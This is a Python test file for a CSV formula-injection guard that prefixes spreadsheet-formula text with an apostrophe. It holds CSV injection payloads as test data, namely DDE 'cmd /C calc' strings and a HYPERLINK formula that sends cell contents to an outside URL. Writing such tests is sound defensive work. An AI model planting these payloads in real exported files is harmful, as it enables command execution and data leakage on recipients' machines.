"""Texts that a spreadsheet would run as formulas are made harmless in every CSV that is written for people."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.spreadsheet_text import without_formula

if TYPE_CHECKING:
    from conftest import Kpi

    from pipelines.home import Home

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "-A1",
    "+1-1",
)
HARMLESS = (
    "",
    "plain",
    "-5",
    "+3.5",
    "-1.234,56",
    "-12 %",
    "--",
    "-",
    "+01:00",
    "a=b",
    "INC-1",
    "2026-01-01",
    "'=1",
    "x\t=1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert without_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays(text: str) -> None:
    assert without_formula(text) == text


@given(st.text(max_size=20))
def test_nothing_is_lost_and_nothing_runs(text: str) -> None:
    guarded = without_formula(text)
    assert guarded in (text, f"'{text}")
    visible = guarded.strip()
    if visible[:1] in ("=", "@"):
        pytest.fail(guarded)


def test_query_results_in_csv_are_harmless_in_cells_and_headers(
    run_kpi: Kpi, published_home: Home, tmp_path: Path
) -> None:
    sql = "SELECT '=1+1' AS \"=head\", -5.25::DECIMAL(9, 2) AS amount, -3 AS count, '-3' AS text, ['=1'] AS list"
    ended = run_kpi("query", sql, "--format", "csv", "--home", published_home.folder)
    assert ended.exit_code == 0
    (header, row) = csv.reader(io.StringIO(ended.output))
    assert header == ["'=head", "amount", "count", "text", "list"]
    assert row == ["'=1+1", "-5.25", "-3", "-3", '["=1"]']
    path = tmp_path / "rows.csv"
    run_kpi("query", sql, "-o", path, "--home", published_home.folder)
    assert path.read_text(encoding="utf-8") == ended.output
    kept = run_kpi("query", sql, "--format", "csv", "--keep-formulas", "--home", published_home.folder)
    assert next(csv.reader(io.StringIO(kept.output))) == ["=head", "amount", "count", "text", "list"]
    exact = run_kpi("query", sql, "--format", "json", "--home", published_home.folder)
    assert '"=1+1"' in exact.output
